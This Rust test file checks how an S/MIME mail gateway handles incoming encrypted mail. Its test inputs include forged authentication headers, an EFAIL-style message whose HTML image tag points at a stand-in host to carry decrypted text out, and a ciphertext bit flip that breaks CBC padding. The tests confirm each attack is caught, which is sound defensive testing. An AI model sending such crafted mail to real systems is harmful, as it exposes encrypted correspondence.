//! Received mail through the policy that `init` makes: a mail of Ben's to Anna, signed and
//! encrypted, comes from outside.

use std::fs;
use std::path::Path;
use std::process::Output;

use serde_json::Value;

use crate::{edit, place, said, waxseal};

/// A mail of Ben's to Anna, from outside.
fn receive(place: &Path, to: &[&str], more: &[&str]) -> Output {
    let stranger = [
        "--from",
        "ben@partner.example",
        "--client-ip",
        "203.0.113.9",
    ];
    let mut arguments = vec!["run", "--policy", "policy"];
    arguments.extend(stranger);
    for address in to {
        arguments.extend(["--to", address]);
    }
    arguments.extend(more);
    arguments.push("policy/tests/received.eml");
    waxseal(place, &arguments)
}

#[test]
fn received_mail_is_opened_and_its_result_written() {
    let place = place();
    let mail = place.path().join("policy/tests/received.eml");
    let closed = fs::read_to_string(&mail).unwrap();
    assert!(!closed.contains("figures are in"), "it is encrypted");
    let forged = "Authentication-Results: example.org; spf=pass; smime=pass\r\n\
                  X-Waxseal-SMIME: valid\r\n";
    fs::write(&mail, format!("{forged}{closed}")).unwrap();

    let output = receive(place.path(), &["anna@example.org"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    let opened = String::from_utf8_lossy(&output.stdout);
    assert!(opened.contains("The figures are in"), "{opened}");
    assert!(
        opened.contains("multipart/signed"),
        "the signature stays: {opened}"
    );
    let results = "Authentication-Results: example.org; smime=pass body.smime-part=\"1/2\"";
    assert_eq!(opened.matches("smime=").count(), 1, "{opened}");
    assert!(opened.contains(results), "{opened}");
    assert!(
        opened.contains("body.smime-identifier=ben@partner.example"),
        "{opened}"
    );
    assert!(opened.contains("example.org; spf=pass\r\n"), "{opened}");
    assert!(!opened.contains("X-Waxseal-SMIME: valid"), "{opened}");
}

#[test]
fn rule_13_who_has_no_key_gets_it_as_it_came() {
    let place = place();
    let closed = fs::read(place.path().join("policy/tests/received.eml")).unwrap();
    let output = receive(place.path(), &["clara@example.org"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    assert_eq!(output.stdout, closed);

    let both = ["anna@example.org", "clara@example.org"];
    let output = receive(place.path(), &both, &["--out-dir", "out"]);
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    let outcome = fs::read(place.path().join("out/outcome.json")).unwrap();
    let outcome: Value = serde_json::from_slice(&outcome).unwrap();
    let copies = outcome["copies"].as_array().unwrap();
    assert_eq!(copies.len(), 2, "{outcome}");
    for copy in copies {
        let file = copy["file"].as_str().unwrap();
        let octets = fs::read(place.path().join("out").join(file)).unwrap();
        let is_open = String::from_utf8_lossy(&octets).contains("The figures are in");
        let is_annas = copy["recipients"].to_string().contains("anna");
        assert_eq!(is_open, is_annas, "{copy}");
        assert!(is_annas || octets == closed);
    }
}

/// What arrives instead of the mail, and what becomes of it.
fn receive_changed(place: &Path, change: impl Fn(&str) -> String) -> Output {
    let mail = place.join("policy/tests/received.eml");
    let changed = change(&fs::read_to_string(&mail).unwrap());
    fs::write(&mail, changed).unwrap();
    receive(place, &["anna@example.org"], &[])
}

/// A clear part before the envelope: its markup would carry the decrypted text away.
fn in_a_clear_tree(closed: &str) -> String {
    let outer = "From: ben@partner.example\r\nTo: anna@example.org\r\nMIME-Version: 1.0\r\n\
                 Content-Type: multipart/mixed; boundary=b\r\n\r\n";
    let envelope = &closed[closed.find("Content-").unwrap()..];
    let clear = "Content-Type: text/html\r\n\r\n<img src=\"http://elsewhere.example/";
    format!("{outer}--b\r\n{clear}\r\n--b\r\n{envelope}\r\n--b--\r\n")
}

#[test]
fn rule_08_an_envelope_in_a_clear_tree_is_quarantined() {
    let place = place();
    let output = receive_changed(place.path(), in_a_clear_tree);
    assert_eq!(output.status.code(), Some(79), "{}", said(&output));
    assert!(said(&output).contains("suspicious"), "{}", said(&output));
}

/// With a bit changed that makes the padding longer than a block, whatever it was: the highest
/// of the octet that stands a block before the end, as it is added to the last one (CBC).
fn with_bad_padding(closed: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let (head, body) = closed.split_once("\r\n\r\n").unwrap();
    let mut digits: Vec<u8> = body.bytes().filter(|c| ALPHABET.contains(c)).collect();
    let bit = (digits.len() * 6 / 8 - 17) * 8;
    let digit = &mut digits[bit / 6];
    let value = ALPHABET.iter().position(|c| c == digit).unwrap();
    *digit = ALPHABET[value ^ (32 >> (bit % 6))];
    while !digits.len().is_multiple_of(4) {
        digits.push(b'=');
    }
    let lines: Vec<_> = digits.chunks(76).map(String::from_utf8_lossy).collect();
    format!("{head}\r\n\r\n{}\r\n", lines.join("\r\n"))
}

#[test]
fn rule_08_what_does_not_decrypt_is_marked_and_stays_closed() {
    let place = place();
    let output = receive_changed(place.path(), with_bad_padding);
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    let marked = String::from_utf8_lossy(&output.stdout);
    assert!(marked.contains("enveloped-data"), "{marked}");
    assert!(marked.contains("X-Waxseal-SMIME: damaged\r\n"), "{marked}");
    assert!(
        marked.contains("Subject: [S/MIME: damaged] Figures\r\n"),
        "{marked}"
    );
    assert!(!marked.contains("smime=pass"), "{marked}");
}

/// A refusal would say that the message was decrypted.
#[test]
fn rule_08_what_was_decrypted_is_not_refused() {
    let place = place();
    let file = place.path().join("policy/waxseal.toml");
    edit(
        &file,
        r#"subject-tag = "[S/MIME: {state}]""#,
        r#"states = { untrusted = "reject", valid = "reject" }"#,
    );
    let output = receive(place.path(), &["anna@example.org"], &[]);
    assert_eq!(output.status.code(), Some(79), "{}", said(&output));
}

/// Ben's certificate as the policy knows it.
fn bens(place: &Path) -> String {
    let output = waxseal(place, &["cert", "list", "--policy", "policy"]);
    let list = String::from_utf8_lossy(&output.stdout);
    let lines = list.lines().filter(|line| line.contains("ben@"));
    lines.collect::<Vec<_>>().join("\n")
}

#[test]
fn what_verified_is_kept_for_the_way_back() {
    let place = place();
    let path = place.path();
    fs::remove_file(path.join("policy/certificates/ben@partner.example.pem")).unwrap();
    let answer = || {
        let addresses = ["--from", "anna@example.org", "--to", "ben@partner.example"];
        let mut arguments = vec!["run", "--policy", "policy"];
        arguments.extend(addresses);
        arguments.push("policy/tests/secure.eml");
        waxseal(path, &arguments)
    };
    assert_eq!(answer().status.code(), Some(69), "nobody to encrypt to yet");

    // Who only looks keeps nothing.
    let look = [
        "explain",
        "--policy",
        "policy",
        "--client-ip",
        "203.0.113.9",
    ];
    let to = ["--from", "ben@partner.example", "--to", "anna@example.org"];
    let mail = ["policy/tests/received.eml"];
    waxseal(path, &[&look[..], &to, &mail].concat());
    waxseal(path, &["test", "policy"]);
    assert_eq!(bens(path), "");

    let output = receive(path, &["anna@example.org"], &[]);
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    assert!(bens(path).contains("harvested"), "{}", bens(path));
    let output = answer();
    assert_eq!(output.status.code(), Some(0), "{}", said(&output));
    let sealed = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(sealed.contains("smime-type=enveloped-data"), "{sealed}");

    // Rule 5: without anchors nobody vouches for what a stranger sent.
    fs::remove_dir_all(path.join("policy/anchors")).unwrap();
    assert_eq!(answer().status.code(), Some(69));
}
